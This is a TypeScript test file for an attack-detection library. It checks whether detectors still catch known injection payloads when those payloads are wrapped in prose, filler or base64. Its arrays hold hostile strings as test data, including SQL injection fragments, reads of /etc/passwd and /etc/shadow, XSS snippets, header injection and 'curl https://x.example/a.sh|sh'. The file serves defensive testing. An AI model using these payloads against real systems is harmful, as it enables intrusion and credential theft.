/**
 * Tests that what is around an attack does not hide it: each example that a strong detector finds
 * alone is put in prose, filler and encodings, as people who know the product would.
 */

import { describe, expect, test } from 'vitest';
import { fromByteString } from '../../base/byte-string.ts';
import { detect } from './detect.ts';
import { attackForms, base64 } from '../../bench/detect/attack-forms.ts';
import { detectors } from './list.ts';
import { base64BytesMin } from './open/leaves.ts';

/** Detectors of all values; some look at uploads or at paths only. */
const strong = new Set(
  detectors.filter((one) => one.strong && one.variables === undefined).map(({ id }) => id),
);

/** Detectors that find something, those that one sign of is enough. */
function strongIn(text: string): readonly number[] {
  const { leaves } = detect([{ path: 'args.q', bytes: fromByteString(text) }]);
  return leaves.flatMap(({ hits }) => hits.map(({ id }) => id)).filter((id) => strong.has(id));
}

const all = [...new Set(detectors.flatMap(({ examples }) => examples.attacks))];
const payloads = all.filter((text) => strongIn(text).length > 0);

/** Whether a strong detector that finds something in a payload finds it in a form of it, too. */
function isFoundIn(payload: string, form: string): boolean {
  const found = strongIn(form);
  return strongIn(payload).some((id) => found.includes(id));
}

/** Paths prove an attack as a whole value only: people write about them. */
const wholeValues = [
  ...['{"alg":"none","typ":"JWT"}', '{"typ":"JWT", "alg": "NoNe"}'],
  ...['/etc/passwd', '/proc/self/environ', 'c:\\windows\\win.ini', '/WEB-INF/web.xml'],
  ...['/etc/passwd is x', 'WEB-INF/web.xml', 'WEB-INF/web.xml?a and b'],
  ...['........etcpasswd', '..web-infweb.xml'],
  ...[
    "admin'-- what else is there",
    'class.module.classLoader.x',
    'Basic cm9vdDp4DQp1c2VyPXJvb3QNCmhhc3Jvb3Q9MQ==',
  ],
];
/** What proves an attack as a whole value only: it is too short to prove one inside a text. */
const shortValues = [
  ...['0 or 0x1', '99 or ID=id;', '1 and id=5', '1 or not 0', '9/**/or -1'],
  ...["'+'", "'-'", "'='", "'||user||'", "ad'||'min", '1 -false', '1 or true', 'admin)(&)'],
  ...['5) or not false -- ', 'phpinfo()', '../conf/data.properties', '../web.xml'],
  ...['../users.db.php', 'select @@servername', 'select user from dual'],
];
/** Paths that are named in texts, too, and those of them that a text after them makes longer. */
const secretFiles = detectors.find(({ name }) => name === 'secret-file')!.examples.attacks;
const secretNames = secretFiles.filter((text) => {
  return /\.(?:dll|mdf|env|ini|DAT|config)$|~1\.con$/.test(text);
});
/** An ellipsis in the middle of a path that texts name. */
const dottedPaths = ['/.../x'];
/** Commands that are the whole value. */
const ownCommands = detectors.find(({ name }) => name === 'system-identification')!.examples
  .attacks;

/** Queries of meta tables, as the whole of a short value. */
const queries = [
  'select sql from sqlite_master',
  'select table_name from information_schema.tables',
  "select a from information_schema.tables where b='x tells you how'",
  'select a from information_schema.tables -- tells you how',
];
/** Addresses that are the whole value. */
const addresses = [
  ...['http://10.1.2.3/shell.txt?', 'https://evil.example/a/r57.gif??', 'ftp://x.example/c.php#'],
];
/** A script that words after it make no program. */
const cutScripts = ['"><script>x', '-1<script>x'];
/** A separator and a command, or a command, that are the whole value. */
const wholeCommands = ['; hostname', '| history', ';mount', 'curl https://x.example/a.sh|sh'];
/** What proves one where the value begins. */
const beginnings = [
  ...['${alert(1)}', '*/alert(1)/*', '-prompt(document.domain)-', '1;alert(1)', "' like '%"],
  ...['..;a=b/x', 'echo md5("x");', 'cat /etc/passwd', 'cat /etc/shadow|head'],
  ...['cat</etc/passwd', '/bin/cat /etc/passwd'],
  ...['a/../../x.ini\0', '1 and 2 is not 5'],
];
/** Addresses of the writer's own machine, which texts name. */
const ownMachine = ['http://127.0.0.1:8080/', 'http://127.0.0.1:5000/ works'];
/** Code, in the manner of Markdown. */
const quoted = ['`cat /etc/hosts`'];
/** A command alone in its line, and what is bound to the first bytes of a value. */
const behindBounds = ['a\nuname -a', '"></title><img src=x>', 'a)(memberOf=cn=x'];
/** A text whose first line has words may have a line "Location:" after it. */
const afterOneWord = [
  '1\r\nHost: evil.example',
  'a@b.example\nBcc: c@d.example',
  'x\nLocation: //y',
];
/** What proves an attack by ending the value. */
const endings = [
  ...['127.0.0.1;id', 'user.password.$ne', 'see you ; dir', '`cat /etc/hosts`'],
  'Basic cm9vdDp4DQp1c2VyPXJvb3QNCmhhc3Jvb3Q9MQ==',
];
/** What is no proof any more, by form: lists to be made shorter. */
const lostIn: Readonly<Record<string, readonly string[]>> = {
  'with prose before': [
    ...[...wholeValues, ...shortValues, ...queries, ...beginnings, ...afterOneWord, ...addresses],
    ...[...secretFiles, ...ownMachine, ...quoted, ...dottedPaths, ...ownCommands],
    ...['a\nuname -a', ...wholeCommands],
  ],
  'with filler before': [
    ...[...wholeValues, ...shortValues, ...queries, ...beginnings, ...afterOneWord, ...addresses],
    ...[...secretFiles, ...ownMachine, ...quoted, ...dottedPaths, ...ownCommands],
    ...[...behindBounds, ...wholeCommands],
  ],
  'with prose behind': [
    ...[...endings, ...ownCommands, ...secretNames, ...shortValues, ...addresses],
    ...[...cutScripts, ...wholeCommands],
  ],
  'with filler behind': [
    ...[...endings, ...ownCommands, ...secretNames, ...shortValues, ...queries, ...addresses],
    ...[...cutScripts, ...wholeCommands],
  ],
  'with filler in a string behind': [
    ...[...endings, ...ownCommands],
    ...shortValues.filter((text) => !text.endsWith('-- ')),
    ...[...queries, ...addresses, ...secretNames, ...cutScripts, ...wholeCommands],
  ],
};

describe('an attack that is proved', () => {
  test('is one of many', () => {
    expect(payloads.length).toBeGreaterThan(150);
  });

  test.each(Object.entries(attackForms))('is proved %s', (name, form) => {
    const fit = name === 'in base64' ? payloads.filter(isLongEnough) : payloads;
    const lost = fit.filter((text) => !isFoundIn(text, form(text)));
    expect(lost.sort()).toEqual([...(lostIn[name] ?? [])].sort());
  });
});

/** Shorter base64 is not opened: words of texts decode to something as well. */
function isLongEnough(text: string): boolean {
  return base64(text).replaceAll('=', '').length >= base64BytesMin;
}
